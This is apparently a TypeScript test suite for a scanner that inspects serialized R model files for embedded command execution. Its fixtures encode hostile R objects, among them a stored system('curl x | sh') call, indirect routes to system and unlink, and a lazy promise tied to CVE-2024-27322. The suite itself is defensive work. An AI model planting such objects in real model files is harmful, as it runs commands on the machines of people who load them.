import assert from 'node:assert/strict';
import { R_FORMAT } from '../../../src/core/models/r/format';
import { bytesOf, integer, scanBytes, verdicts } from './scanBytes';

const i = (n: number) => integer(n, 4, false);
const header = bytesOf('X\n', i(3), i(0x040300), i(0x030500), i(5), 'UTF-8');
const char = (s: string) => bytesOf(i(0x40009), i(s.length), s);
const symbol = (s: string) => bytesOf(i(1), char(s));
const strings = (...s: string[]) => bytesOf(i(16), i(s.length), ...s.map(char));
const nil = i(254);
/** LANGSXP: function, then a pairlist of arguments. */
const call = (fn: string, ...args: Uint8Array[]) =>
  bytesOf(i(6), symbol(fn), ...args.map((a) => bytesOf(i(2), a)), nil);
const list = (...items: Uint8Array[]) => bytesOf(i(19), i(items.length), ...items);
const scan = (body: Uint8Array, name = 'm.rds') => scanBytes(name, bytesOf(header, body), { formats: [R_FORMAT] });

describe('R serialization', () => {
  it('an honest list with a stored model call is clean and described', async () => {
    const report = await scan(
      list(strings('a', 'b'), bytesOf(i(14), i(2), new Uint8Array(16)), call('lm', symbol('formula'))),
    );
    assert.deepEqual(verdicts(report), []);
    assert.equal(report.status, 'scanned');
    assert.equal(report.description?.frameworkVersion, '4.3.0');
  });

  it('names the command a language object would run, at its offset', async () => {
    const report = await scan(list(call('system', strings('curl x | sh'))));
    assert.deepEqual(verdicts(report), ['high r/dangerous-call']);
    assert.equal(report.findings[0]?.evidence, 'system("curl x | sh")');
    assert.equal(report.findings[0]?.location.offset, header.length + 8);
  });

  it('names the command however the function is had', async () => {
    const applied = (head: Uint8Array, ...args: Uint8Array[]) =>
      bytesOf(i(6), head, ...args.map((a) => bytesOf(i(2), a)), nil);
    const cases = [
      applied(call('::', symbol('base'), symbol('system')), strings('id')),
      applied(call(':::', symbol('base'), symbol('system2')), strings('id')),
      applied(call('get', strings('system')), strings('id')),
      applied(call('match.fun', strings('system')), strings('id')),
      call('do.call', strings('system'), call('list', strings('id'))),
      call('eval', call('parse', strings("system('id')"))),
      call('if', bytesOf(i(10), i(1), i(1)), call('{', applied(call('::', symbol('base'), symbol('unlink'))))),
    ];
    for (const [index, body] of cases.entries())
      assert.ok(verdicts(await scan(list(body))).includes('high r/dangerous-call'), `${index}`);
    const honest = [
      applied(call('::', symbol('stats'), symbol('lm')), symbol('y')),
      call('do.call', strings('rbind'), symbol('x')),
      call('get', strings('contr.treatment')),
      call('sapply', symbol('x'), strings('mean')),
    ];
    for (const body of honest)
      assert.deepEqual(
        verdicts(await scan(list(body))).filter((v) => v.startsWith('high')),
        [],
      );
  });

  it('tells an unevaluated promise at the root from one deep inside (CVE-2024-27322)', async () => {
    const promise = bytesOf(i(5 | 0x400), i(253), i(252), call('print', strings('x')));
    assert.deepEqual(verdicts(await scan(promise)), ['high r/promise']);
    assert.deepEqual(verdicts(await scan(list(promise))), ['low r/promise']);
    const lazy = bytesOf(i(5 | 0x400), i(253), i(252), call('eval', call('parse', strings('x'))));
    assert.ok(verdicts(await scan(list(lazy))).includes('high r/dangerous-call'));
  });

  it('a forced promise carries its value and runs nothing', async () => {
    assert.deepEqual(verdicts(await scan(list(bytesOf(i(5), strings('v'), call('print'))))), []);
  });

  it('functions of a saved closure are its own business, commands are not', async () => {
    const closure = (body: Uint8Array) => bytesOf(i(3), i(253), nil, body);
    assert.deepEqual(verdicts(await scan(closure(call('library', strings('stats'))))), []);
    assert.deepEqual(verdicts(await scan(closure(call('system', strings('x'))))), ['high r/dangerous-call']);
  });

  it('reads the ASCII form and the header of save()', async () => {
    const ascii = 'A\n3\n262912\n197888\n5\nUTF-8\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n7\necho\\040x\n254\n';
    assert.deepEqual(verdicts(await scanBytes('x', ascii, { formats: [R_FORMAT] })), ['high r/dangerous-call']);
    assert.deepEqual(verdicts(await scanBytes('x', `RDA3\n${ascii}`, { formats: [R_FORMAT] })), [
      'high r/dangerous-call',
    ]);
  });

  it('follows references and a long pairlist without recursion', async () => {
    const cells = Array.from({ length: 50_000 }, () => bytesOf(i(2), i(0x1ff)));
    const report = await scan(bytesOf(bytesOf(i(2), symbol('x')), ...cells, nil));
    assert.equal(report.status, 'scanned');
  });

  it('keeps what was found when the data is cut anywhere, and says that it was', async () => {
    const whole = bytesOf(header, list(call('system', strings('x')), strings('tail')));
    for (let cut = header.length; cut < whole.length; cut += 1) {
      const report = await scanBytes('m.rds', whole.subarray(0, cut), { formats: [R_FORMAT] });
      assert.notEqual(report.status, 'scanned', `cut at ${cut}`);
    }
    const late = await scanBytes('m.rds', whole.subarray(0, whole.length - 2), { formats: [R_FORMAT] });
    assert.ok(verdicts(late).includes('high r/dangerous-call'));
  });

  it('hostile lengths and depth end with a status', async () => {
    assert.equal((await scan(bytesOf(i(14), i(0x7fffffff)))).status, 'partial');
    assert.equal((await scan(bytesOf(i(16), i(-5)))).status, 'partial');
    const deep = await scan(bytesOf(...Array.from({ length: 5000 }, () => bytesOf(i(19), i(1))), nil));
    assert.match(deep.reason ?? '', /nested deeper/);
  });
});
